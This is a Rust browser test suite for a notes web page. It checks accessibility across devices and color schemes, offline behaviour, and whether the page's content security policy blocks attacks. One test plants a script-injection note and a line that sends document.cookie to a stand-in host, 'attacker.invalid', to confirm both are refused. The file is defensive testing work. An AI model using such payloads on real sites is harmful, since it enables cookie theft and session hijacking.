//! What the page looks like: a picture of each state, and what can be said of it without looking.

use std::{fs, path::Path};

use serde_json::{Value, json};

use crate::{servers::Server, webdriver::Browser};

/// The contrast of each text to what is behind it (WCAG 2.2 section 1.4.3), and what else a person would stumble over.
const FAULTS: &str = r##"
    const faults = [];
    const numbers = (color) => color.match(/[\d.]+/g).map(Number);
    const light = (color) => {
        const [r, g, b] = numbers(color).map((part) => part / 255).map((c) => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const ground = (element) => {
        for (let at = element; at; at = at.parentElement) {
            const color = getComputedStyle(at).backgroundColor;
            if ((numbers(color)[3] ?? 1) > 0) return color;
        }
        return "rgb(255, 255, 255)";
    };
    for (const element of document.querySelectorAll("body *")) {
        if (!element.checkVisibility()) continue;
        const has_text = element.matches("input") || [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
        const [a, b] = [light(getComputedStyle(element).color), light(ground(element))].sort((a, b) => b - a);
        const contrast = (a + 0.05) / (b + 0.05);
        if (has_text && contrast < 4.5) faults.push(`contrast ${contrast.toFixed(2)}: ${element.outerHTML}`);
        if (element.matches("input") && !element.labels.length) faults.push(`no label: ${element.outerHTML}`);
        // Large enough for a thumb (WCAG 2.2 section 2.5.8 asks for 24).
        if (element.matches("input, button") && element.getBoundingClientRect().height < 40) faults.push(`small: ${element.outerHTML}`);
        for (const { name } of element.attributes) if (/^on|^style$/.test(name)) faults.push(`${name}: ${element.outerHTML}`);
    }
    if (document.documentElement.scrollWidth > innerWidth) faults.push(`${document.documentElement.scrollWidth} wide of ${innerWidth}`);
    if (document.querySelectorAll("h1").length !== 1 || !document.documentElement.lang) faults.push("no heading, or no language");
    return faults;
"##;

#[test]
fn each_state_can_be_read_on_a_phone_and_a_desktop_by_day_and_by_night() {
    // Where cargo lets tests leave files; the pictures stay, for people to look at.
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser");
    fs::create_dir_all(&folder).unwrap();
    println!(">> pictures: {}", folder.display());
    for (device, width, height, is_mobile) in [("phone", 360, 740, true), ("desktop", 1280, 800, false)] {
        for scheme in ["light", "dark"] {
            let server = Server::example(|it| it);
            let browser = Browser::start();
            let metrics = json!({ "width": width, "height": height, "deviceScaleFactor": 2, "mobile": is_mobile });
            browser.devtools("Emulation.setDeviceMetricsOverride", &metrics);
            let media = json!({ "features": [{ "name": "prefers-color-scheme", "value": scheme }] });
            browser.devtools("Emulation.setEmulatedMedia", &media);
            let look = |state: &str| {
                browser.picture(&folder.join(format!("{device}-{scheme}-{state}.png")));
                assert_eq!(browser.run(FAULTS, &[]), json!([]), "{device}, {scheme}, {state}");
            };
            browser.open(&server.at("127.0.0.1"));
            browser.wait("!document.querySelector('#login').hidden");
            assert_eq!(browser.run("return matchMedia('(prefers-color-scheme: dark)').matches", &[]), scheme == "dark");
            look("logged-out");
            browser.fill("#username", "test");
            browser.fill("#password", "wrong");
            browser.click("#login button");
            browser.wait("document.querySelector('#status').textContent === 'The name or the password is wrong.'");
            look("wrong-password");
            browser.fill("#password", "test");
            browser.click("#login button");
            browser.wait("document.querySelector('#status').textContent === 'You are logged in.'");
            look("no-notes");
            for note in [
                "Milk, bread, two lemons",
                &"long".repeat(60),
                "Call Ada about Thursday: bring the drawings, and ask what became of the second draft",
            ] {
                browser.add_note(note);
            }
            look("notes");
            browser.log_out();
            look("logged-out-again");
        }
    }
}

#[test]
fn the_page_keeps_to_its_own_policy_and_to_its_own_server() {
    let server = Server::example(|it| it);
    let browser = Browser::start();
    let url = server.at("127.0.0.1");
    browser.log_in(&url);
    browser.add_note("<script>document.title = 'taken over'</script>");
    browser.reload();
    browser.wait("document.querySelectorAll('#list li').length === 1");
    assert_eq!(browser.run("return document.title", &[]), "Notes");
    let loaded = "return performance.getEntriesByType('resource').map(({ name }) => new URL(name).origin)";
    let origins: Vec<String> = serde_json::from_value(browser.run(loaded, &[])).unwrap();
    assert!(origins.len() >= 4 && origins.iter().all(|origin| *origin == url), "{origins:?}");
    // Neither an error nor a breach of the policy: the page asks for nothing that it knows it can't have.
    assert_eq!(browser.console(), Vec::<String>::new());
    // The policy is at work: what a hole in the page would let in does not run.
    let breach = "const script = document.createElement('script');
        script.append('document.title = `taken over`');
        document.body.append(script);
        const image = new Image();
        const refused = new Promise((done) => { image.onerror = () => done(true); image.onload = () => done(false); });
        image.src = 'https://attacker.invalid/' + document.cookie;
        return refused";
    // Which the page's own rule for trusted types refuses even to write.
    let outcome = browser.run(&format!("try {{ {breach} }} catch (error) {{ return error.name }}"), &[]);
    assert!(outcome == "TypeError" || outcome == true, "{outcome}");
    assert_eq!(browser.run("return document.title", &[]), "Notes");
    assert!(browser.console().iter().any(|line| line.contains("Content Security Policy")), "nothing was refused");
}

#[test]
fn a_page_that_reaches_no_server_says_so() {
    let server = Server::example(|it| it);
    let browser = Browser::start();
    browser.log_in(&server.at("127.0.0.1"));
    drop(server);
    browser.fill("#text", "lost");
    browser.click("#add button");
    browser.wait("document.querySelector('#status').textContent.startsWith('The server can\\'t be reached')");
    // What was typed is not lost.
    assert_eq!(browser.run("return document.querySelector('#text').value", &[]), Value::from("lost"));
}
